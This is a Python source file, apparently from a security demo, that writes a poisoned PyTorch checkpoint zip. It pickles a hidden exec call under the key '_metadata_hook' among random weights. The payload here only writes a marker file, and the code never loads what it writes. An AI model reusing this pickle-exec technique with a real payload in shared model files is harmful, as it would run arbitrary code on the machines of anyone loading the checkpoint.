"""The demo's poisoned PyTorch checkpoint: a ``torch.save``-style zip written with ``zipfile``
and ``pickle``, whose pickle hides a call to ``exec`` among the weights.

Nothing here ever loads what it wrote: the pickle is only ever dumped. Entries carry a fixed
date and the weights a fixed seed, so every build writes the same bytes.
"""

from __future__ import annotations

import contextlib
import io
import pickle
import sys
import types
import zipfile
from collections import OrderedDict
from pathlib import Path

#: The file the hidden payload would write in the loading process's folder, were it ever run.
PICKLE_MARKER = "MODELGATE-DEMO-PICKLE-RAN.txt"
#: Zip entries carry this date, not the build's, so that rebuilds are byte-identical.
_ZIP_DATE = (2026, 3, 2, 9, 0, 0)


@contextlib.contextmanager
def torch_names():
    """Stand-ins pickled under torch's names (``torch.FloatStorage``, ``torch._utils._rebuild_tensor_v2``).

    pickle checks that a global resolves to the object it saves, so they are registered in
    ``sys.modules`` while dumping only (never left behind: other code may probe for torch).
    Yields the storage type and the rebuild function.
    """
    if "torch" in sys.modules:
        raise RuntimeError("the stand-ins must not replace an imported torch")
    torch, utils = types.ModuleType("torch"), types.ModuleType("torch._utils")
    storage = type("FloatStorage", (), {"__module__": "torch"})
    torch.FloatStorage = storage

    def _rebuild_tensor_v2(*args):
        raise AssertionError("a stand-in pickle was loaded")

    _rebuild_tensor_v2.__module__, _rebuild_tensor_v2.__qualname__ = "torch._utils", "_rebuild_tensor_v2"
    utils._rebuild_tensor_v2 = _rebuild_tensor_v2
    torch._utils = utils
    sys.modules.update({"torch": torch, "torch._utils": utils})
    try:
        yield storage, _rebuild_tensor_v2
    finally:
        del sys.modules["torch"], sys.modules["torch._utils"]


class _HiddenCall:
    """Pickles into ``exec(source)``: what a loader would run. Dumping never calls it. At protocol
    2, which ``torch.save`` uses, pickle names it by its Python 2 module: ``__builtin__.exec``."""

    def __init__(self, source: str) -> None:
        self.source = source

    def __reduce__(self):
        import builtins

        return (builtins.exec, (self.source,))


def state_dict_pickle(shapes: dict[str, tuple[int, ...]], *, extra: dict | None = None) -> tuple[bytes, dict[str, int]]:
    """The ``data.pkl`` of a ``torch.save`` zip: a state dict of tensors of ``shapes`` (then the
    ``extra`` entries), dumped at protocol 2 under torch's names; and the element count of each
    storage by its key (the zip member ``archive/data/<key>``)."""
    import numpy as np

    class Storage:
        def __init__(self, key: str, numel: int) -> None:
            self.key, self.numel = key, numel

    class Tensor:
        def __init__(self, storage: Storage, shape: tuple) -> None:
            self.storage, self.shape = storage, shape

        def __reduce__(self):
            stride = tuple(int(np.prod(self.shape[i + 1:])) for i in range(len(self.shape)))
            return (rebuild, (self.storage, 0, self.shape, stride, False, OrderedDict()))

    class Pickler(pickle.Pickler):
        def persistent_id(self, obj):
            if isinstance(obj, Storage):
                return ("storage", storage_type, obj.key, "cpu", obj.numel)
            return None

    state, numels = OrderedDict(), {}
    for index, (name, shape) in enumerate(shapes.items()):
        numels[str(index)] = int(np.prod(shape))
        state[name] = Tensor(Storage(str(index), numels[str(index)]), shape)
    state.update(extra or {})
    buffer = io.BytesIO()
    with torch_names() as (storage_type, rebuild):
        Pickler(buffer, protocol=2).dump(state)
    return buffer.getvalue(), numels


def write_poisoned_torch_zip(path: Path, *, seed: int, shapes: dict[str, tuple[int, ...]]) -> dict:
    """A ``torch.save`` zip (``archive/data.pkl`` plus one file per storage) whose state dict
    also holds an entry that calls ``exec`` when unpickled: it would write
    :data:`PICKLE_MARKER` in the loader's working folder. Returns the tensor shapes."""
    import numpy as np

    rng = np.random.default_rng(seed)
    # The payload sits among the weights under an innocent-looking key, as in real attacks.
    hook = _HiddenCall(f"open({PICKLE_MARKER!r}, 'w').write('a pickle ran code here')")
    data, numels = state_dict_pickle(shapes, extra={"_metadata_hook": hook})
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_STORED) as archive:
        def put(name: str, data: bytes) -> None:
            archive.writestr(zipfile.ZipInfo(f"archive/{name}", date_time=_ZIP_DATE), data)

        put("data.pkl", data)
        for key, numel in numels.items():
            put(f"data/{key}", rng.standard_normal(numel).astype(np.float32).tobytes())
        put("version", b"3\n")
    return {"tensors": {name: list(shape) for name, shape in shapes.items()}}
